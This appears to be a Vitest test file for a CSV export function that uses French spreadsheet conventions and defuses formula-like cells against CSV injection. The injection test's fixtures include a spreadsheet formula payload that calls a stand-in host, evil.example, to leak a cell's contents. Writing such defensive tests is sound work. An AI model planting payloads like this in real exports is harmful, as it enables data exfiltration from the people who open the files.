import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.ts';

describe('toCsv', () => {
  it('writes a French spreadsheet CSV: BOM, semicolons, CRLF, quoted cells', () => {
    expect(
      toCsv(
        ['Nom', 'Structure'],
        [
          ['Dupont', 'Cabinet "Les Oliviers"; Digne'],
          ['Martin', null],
        ],
      ),
    ).toBe('\ufeffNom;Structure\r\nDupont;"Cabinet ""Les Oliviers""; Digne"\r\nMartin;\r\n');
  });

  it('defuses every cell starting like a formula (OWASP): =, +, -, @, tab, carriage return', () => {
    const cells = [
      '=HYPERLINK("x")',
      '-1+HYPERLINK("http://evil.example/?"&A1,"Voir")',
      '+1+1',
      '@SUM(A1)',
      '\t=1+2',
      '\r=1+2',
      '-SUM(A1)',
    ];
    const lines = toCsv(
      ['a'],
      cells.map((c) => [c]),
    ).split('\r\n');
    expect(lines.slice(1, 4)).toEqual(['"\'=HYPERLINK(""x"")"', '"\'-1+HYPERLINK(""http://evil.example/?""&A1,""Voir"")"', "'+1+1"]);
    expect(lines[4]).toBe("'@SUM(A1)");
    expect(lines[5]).toBe("'\t=1+2");
    expect(lines.slice(6).join('\r\n')).toBe('"\'\r=1+2"\r\n\'-SUM(A1)\r\n');
  });

  it('prefixes phone numbers in international form too, and leaves numbers and ordinary text alone', () => {
    expect(toCsv(['a'], [['+33 4 92 00 00 00'], ['04 92 00 00 00'], [-3], [0], ['Saint-Étienne'], ['a=b']])).toBe(
      "\ufeffa\r\n'+33 4 92 00 00 00\r\n04 92 00 00 00\r\n-3\r\n0\r\nSaint-Étienne\r\na=b\r\n",
    );
  });
});
